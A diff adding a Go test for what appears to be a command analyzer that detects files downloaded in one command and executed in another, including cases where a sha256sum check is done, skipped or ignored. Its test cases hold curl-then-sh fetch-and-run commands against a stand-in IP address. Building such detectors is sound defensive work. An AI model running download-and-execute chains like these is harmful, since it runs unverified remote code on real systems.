@@ -84,3 +84,31 @@ func TestTooManyFiles(t *testing.T) {
 		t.Error("more files than the limit, and nothing is said")
 	}
 }
+
+// TestFetched hands what one command leaves to another, as containers do that share a volume.
+func TestFetched(t *testing.T) {
+	const sum = "echo 5feceb66ffc86f38d952786c6d696c79c2dbc239dd4e91b46729d73a27fb57e9  /w/x | sha256sum -c"
+	for _, test := range []struct {
+		name, first, second string
+		found, verified     bool
+	}{
+		{"a file", "curl -so /w/x http://203.0.113.7/x", "sh /w/x", true, false},
+		{"an archive", "curl -s http://203.0.113.7/x.tgz | tar xz -C /w", "/w/bin/run", true, false},
+		{"what is checked", "curl -so /w/x http://203.0.113.7/x && " + sum, "sh /w/x", true, true},
+		{"what is checked in vain", "curl -so /w/x http://203.0.113.7/x; " + sum + "; true", "sh /w/x", true, false},
+		{"data", "curl -so /w/x http://203.0.113.7/x", "/app/server /w/x", false, false},
+		{"what is gone", "curl -so /w/x http://203.0.113.7/x; rm /w/x", "sh /w/x", false, false},
+		{"another file", "curl -so /w/x http://203.0.113.7/x", "sh /w/y", false, false},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			left := Analyze([]string{"sh", "-c", test.first})
+			got := Options{Fetched: left.Fetched}.Analyze([]string{"sh", "-c", test.second})
+			if len(left.Actions) > 0 || len(got.Actions) > 0 != test.found {
+				t.Fatalf("got %+v and %+v, want something found: %v", left.Actions, got.Actions, test.found)
+			}
+			if test.found && got.Actions[0].Verified != test.verified {
+				t.Errorf("got verified %v, want %v", got.Actions[0].Verified, test.verified)
+			}
+		})
+	}
+}
